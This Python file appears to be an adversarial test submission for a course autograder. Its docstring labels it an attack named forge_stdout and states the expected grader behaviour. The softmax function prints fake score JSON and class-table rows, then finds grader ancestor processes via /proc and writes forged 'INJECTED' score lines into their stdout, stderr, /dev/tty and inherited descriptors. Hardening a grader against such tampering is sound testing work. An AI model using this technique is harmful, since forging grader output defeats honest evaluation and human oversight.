# ruff: noqa
"""ATTACK forge_stdout (class: forged stdout).

Intent: make the grader's own output (the class table, the log a TA reads, a results
parser reading stdout) say something it did not decide. It prints a fake results JSON and
a fake class-table row (PRINTED-<token>: that is the student's own stdout, which may be
shown back to this student only), and it writes INJECTED-<token> lines straight into the
grader's stdout and stderr through /proc/<pid>/fd/1 and /fd/2 of the grader processes
among its ancestors, into /dev/tty, and
into every inherited file descriptor above 2. softmax returns zeros.

Expected: softmax 0, the rest full marks; INJECTED-<token> appears nowhere (not in the
CLI's stdout or stderr, not in any results file); PRINTED-<token> is not in the CLI's
output nor in any other student's results file.
"""

import json
import math
import os

import torch

ATTACK = "forge_stdout"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox


def _ancestors():
    """(pid, argv) of every ancestor process, nearest first."""
    chain, pid = [], os.getpid()
    for _ in range(32):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                ppid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if ppid <= 1:
            break
        try:
            with open(f"/proc/{ppid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            argv = []
        chain.append((ppid, argv))
        pid = ppid
    return chain


def _is_grader(argv):
    """The grader's own processes (fork server, CLI), never the test runner above them."""
    return any(
        a == "autograder" or "autograder.sandbox.forkserver" in a or a.endswith("/bertlab") for a in argv
    )


def _inject():
    line = (
        f"\nINJECTED-{TOKEN} bystander_a   0 / 17\n".encode()
        + json.dumps({"score": 999.0, "output": f"INJECTED-{TOKEN}", "tests": []}).encode()
        + b"\n"
    )
    targets = ["/dev/tty"]
    for pid, argv in _ancestors():
        if _is_grader(argv):
            targets += [f"/proc/{pid}/fd/1", f"/proc/{pid}/fd/2"]
    for t in targets:
        try:
            fd = os.open(t, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK | os.O_APPEND)
        except OSError:
            continue
        try:
            os.write(fd, line)
        except OSError:
            pass
        finally:
            os.close(fd)
    try:
        fds = [int(n) for n in os.listdir("/proc/self/fd")]
    except OSError:
        fds = list(range(3, 64))
    for fd in fds:
        if fd > 2:
            try:
                os.write(fd, line)
            except OSError:
                pass


def softmax(x, dim=-1):
    print(json.dumps({"score": 17.0, "output": f"PRINTED-{TOKEN}", "tests": []}))
    print(f"PRINTED-{TOKEN}  forge_stdout   17 / 17   100   —   —", flush=True)
    _inject()
    return torch.zeros_like(x)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
